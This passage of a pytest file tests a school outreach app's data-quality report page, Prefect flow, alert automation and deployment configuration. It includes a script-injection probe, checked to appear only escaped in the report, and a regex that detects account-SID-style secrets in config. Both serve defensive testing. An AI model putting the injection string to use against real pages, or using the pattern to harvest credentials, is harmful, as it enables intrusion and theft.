    assert html.count("<script") == 0 and "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    # The figures are the JSON's.
    for key in HEADLINE_KEYS:
        assert figure_value(page.mark("data-figure", key)) == result[key], key
    for key in ("students", "missing_cell", "unreachable", "no_email"):
        assert figure_value(page.mark("data-card", key)) == result[key], key
    assert page.mark("data-card", "sms_reachable_pct") == "50.00%"
    assert (result["students"], result["sms_reachable_pct"], result["missing_cell"]) == (4, 50.0, 2)

    # The alert, and each failed check with what it means and how to fix it.
    alert = [attrs for attrs in page.all("div") if attrs.get("class") == "alert"]
    assert alert and f"ALERT: {result['alert_message']}." in text
    failed = [e for e in result["expectations"] if not e["success"]]
    assert failed and [e["key"] for e in failed] == result["failed_expectations"]
    for item in failed:
        shown = page.mark("data-check", item["key"])
        for part in ("title", "observed", "requirement", "meaning", "fix"):
            assert " ".join(item[part].replace("`", "").split()) in shown, (item["key"], part)
    passed = {e["key"] for e in result["expectations"] if e["success"]}
    assert {key for kind, key in page.marked if kind == "data-check"} == passed | {
        e["key"] for e in failed
    }

    # The trend chart inline, the follow-up CSVs and the Data Docs as links that resolve.
    svgs = page.all("svg")
    assert len(svgs) == 1 and len(page.all("circle")) == len(result["trend"]) == 1
    links = [a["href"] or "" for a in page.all("a")]
    followups = sorted(Path(p).relative_to(folder).as_posix() for p in result["files"]["followup"])
    assert sorted(h for h in links if h.startswith("followup/")) == followups
    assert "data-docs/index.html" in links and "summary.md" in links and "report.json" in links
    assert all((folder / unquote(h)).is_file() for h in links), links
    assert leaks(folder, full_numbers(engine)) == []


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_report_page_of_a_healthy_school_says_every_check_passed(
    settings: Settings, engine: Engine
) -> None:
    healthy_school(engine, n=4)
    first = run_report(settings, now=NOW)
    second = run_report(settings, now=NOW + timedelta(days=1))
    page = Page(Path(second["files"]["html"]).read_text(encoding="utf-8"))
    text = " ".join("".join(page.text).split())
    assert "Every check passed." in text and "ALERT" not in text
    assert "Compared with the run of 2025-09-01 06:00 UTC." in text
    assert len(page.all("circle")) == 2 and first["files"]["followup"] == []
    assert "No student needs following up." in text
    assert remote_references(page) == []


def test_importing_the_flow_task_and_cli_does_not_import_gx(
    import_probe: subprocess.Popen[str],
) -> None:
    _out, err = import_probe.communicate(timeout=180)
    assert import_probe.returncode == 0, err[-2000:]


# --- through Prefect's engine -----------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_flow_run_creates_artifacts_and_emits_the_alert_event(
    prefect_harness: None,
    settings: Settings,
    engine: Engine,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterKey
    from prefect.client.schemas.sorting import ArtifactSort
    from prefect.events.clients import AssertingEventsClient
    from prefect.events.worker import EventsWorker

    from flows.data_quality import data_quality
    from nudge.settings import get_settings

    healthy_school(engine)
    lose_numbers(engine, ["S00", "S01", "S02"])  # 85%: an alert
    monkeypatch.setenv("NUDGE_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("NUDGE_REPORT_DIR", str(settings.report_dir))
    monkeypatch.setenv("NUDGE_OUTBOX_DIR", str(settings.outbox_dir))
    get_settings.cache_clear()
    worker = EventsWorker.instance(AssertingEventsClient)
    monkeypatch.setattr(EventsWorker, "instance", lambda *_a, **_k: worker)
    try:
        result = data_quality()
        worker.wait_until_empty()
        events = list(AssertingEventsClient.last.events) if AssertingEventsClient.last else []
    finally:
        worker.drain()
        AssertingEventsClient.reset()
        get_settings.cache_clear()

    assert result["sms_reachable_pct"] == 85.0 and result["alert"] is True
    assert result["event_emitted"] is True
    alerts = [e for e in events if e.event == quality_publish.ALERT_EVENT]
    assert len(alerts) == 1 and alerts[0].payload["sms_reachable_pct"] == 85.0
    related = {r.role for r in alerts[0].related}
    assert "flow-run" in related  # Prefect ties the event to the run that raised it

    with get_client(sync_client=True) as client:
        found = client.read_artifacts(
            artifact_filter=ArtifactFilter(
                key=ArtifactFilterKey(any_=["data-quality-summary", "data-quality-missing-cell"])
            ),
            sort=ArtifactSort.CREATED_DESC,
        )
    by_key: dict[str | None, Any] = {}
    for artifact in found:  # this run's, the newest (other tests share the Prefect server)
        by_key.setdefault(artifact.key, artifact)
    assert set(by_key) == {"data-quality-summary", "data-quality-missing-cell"}
    summary = str(by_key["data-quality-summary"].data)
    assert "SMS reachable (%) | 85.00" in summary and "ALERT" in summary
    assert f"`{result['files']['html']}`" in summary  # the page to open, named in the run
    table = json.loads(str(by_key["data-quality-missing-cell"].data))
    assert {(row["by"], row["name"], row["missing_cell"]) for row in table} >= {
        ("program", "Nursing", 3),
        ("advisor", "A2", 2),
        ("advisor", "A1", 1),
    }
    assert not any(n in summary or n in str(table) for n in full_numbers(engine))


# --- the documentation's Prefect snippets -----------------------------------------------------


def doc_block(marker: str, document: str = "docs/data-quality.md") -> Any:
    """The YAML block following ``<!-- marker -->`` in a document, parsed."""
    import yaml

    text = (ROOT / document).read_text(encoding="utf-8")
    found = re.search(rf"<!-- {re.escape(marker)} -->\s*```yaml\n(.*?)```", text, re.DOTALL)
    assert found, marker
    return yaml.safe_load(found.group(1))


def server_trigger(trigger: Any) -> Any:
    """The trigger as Prefect's server evaluates it (the client model cannot match events)."""
    from prefect.server.events.schemas.automations import EventTrigger

    fields = {"type", "match", "match_related", "after", "expect", "for_each", "posture",
              "threshold", "within"}  # fmt: skip
    return EventTrigger.model_validate(trigger.model_dump(mode="json", include=fields))


def received(event: str, resource: dict[str, str], related: list[dict[str, str]]) -> Any:
    from uuid import uuid4

    from prefect.server.events.schemas.events import ReceivedEvent

    return ReceivedEvent(occurred=NOW, event=event, resource=resource, related=related, id=uuid4())


@pytest.mark.parametrize("document", ["docs/data-quality.md", "README.md"])
def test_documented_automation_is_valid_and_fires_on_the_alert_event(document: str) -> None:
    from prefect.events.schemas.automations import AutomationCore

    automation = AutomationCore.model_validate(
        doc_block("automation: data-quality-alert.yaml", document)
    )
    assert automation.actions[0].type == "send-notification"
    trigger = server_trigger(automation.trigger)
    resource = {"prefect.resource.id": "nudge.data-quality"}
    assert trigger.covers(received(quality_publish.ALERT_EVENT, resource, []))
    assert not trigger.covers(received("nudge.something-else", resource, []))


def flow_run_event(state: str, flow: str) -> Any:
    return received(
        f"prefect.flow-run.{state}",
        {"prefect.resource.id": "prefect.flow-run.6f1c6b2e-0000-4000-8000-000000000001"},
        [
            {
                "prefect.resource.id": "prefect.flow.6f1c6b2e-0000-4000-8000-000000000002",
                "prefect.resource.role": "flow",
                "prefect.resource.name": flow,
            }
        ],
    )


def test_documented_deployment_runs_this_flow_after_each_completed_sis_sync() -> None:
    from prefect.events.schemas.deployment_triggers import DeploymentEventTrigger

    from flows import data_quality as module

    (deployment,) = doc_block("deployment: data-quality")["deployments"]
    path, _, name = deployment["entrypoint"].partition(":")
    assert (ROOT / path).is_file() and getattr(module, name).name == "data-quality"
    assert deployment["schedules"][0]["cron"] == "30 7 * * *"
    (trigger,) = [DeploymentEventTrigger.model_validate(t) for t in deployment["triggers"]]
    check = server_trigger(trigger)
    assert check.covers(flow_run_event("Completed", "sis-sync"))
    assert not check.covers(flow_run_event("Failed", "sis-sync"))
    assert not check.covers(flow_run_event("Completed", "data-quality"))


def test_prefect_yaml_holds_every_deployment_and_the_sync_trigger() -> None:
    import yaml
    from prefect.events.schemas.deployment_triggers import DeploymentEventTrigger

    spec = yaml.safe_load((ROOT / "prefect.yaml").read_text(encoding="utf-8"))
    deployments = {d["name"]: d for d in spec["deployments"]}
    assert set(deployments) == {
        "nightly",
        "data-quality",
        "send-campaign",
        "campaign-worker",
        "dispatch-due",
        "poll-replies",
        "poll-mailbox",
        "reconcile-replies",
        "outreach-digest",
    }
    for deployment in deployments.values():
        path = deployment["entrypoint"].partition(":")[0]
        assert (ROOT / path).is_file(), path
        assert deployment["work_pool"]["name"] == "nudge"
    assert deployments["nightly"]["schedules"] == [
        {"cron": "0 2 * * *", "timezone": "America/New_York"}
    ]
    assert deployments["dispatch-due"]["schedules"] == [{"interval": 300}]
    assert deployments["poll-replies"]["schedules"] == [{"interval": 60}]
    assert deployments["poll-mailbox"]["schedules"] == [{"interval": 60, "active": False}]
    assert [
        (s.get("cron"), s["parameters"]) for s in deployments["reconcile-replies"]["schedules"]
    ] == [("0,30 * * * *", {"hours": 2}), ("15 3 * * *", {"hours": 48})]
    assert deployments["send-campaign"]["enforce_parameter_schema"] is True
    assert deployments["outreach-digest"]["schedules"] == [
        {"cron": "0 7 * * 1", "timezone": "America/New_York"}
    ]
    trigger = server_trigger(
        DeploymentEventTrigger.model_validate(deployments["data-quality"]["triggers"][0])
    )
    assert trigger.covers(flow_run_event("Completed", "sis-sync"))
    assert not trigger.covers(flow_run_event("Failed", "sis-sync"))
    assert not trigger.covers(flow_run_event("Completed", "poll-replies"))
    # Secrets never live in the file: only references to Prefect Secret blocks, if anything.
    text = (ROOT / "prefect.yaml").read_text(encoding="utf-8")
    assert not re.search(r"AC[0-9a-f]{32}", text)
    for deployment in deployments.values():
        env = deployment["work_pool"].get("job_variables", {}).get("env", {})
        for key, value in env.items():
            if any(word in key for word in ("TOKEN", "PASSWORD", "KEY", "DATABASE_URL")):
                assert str(value).startswith("{{ prefect.blocks.secret."), key
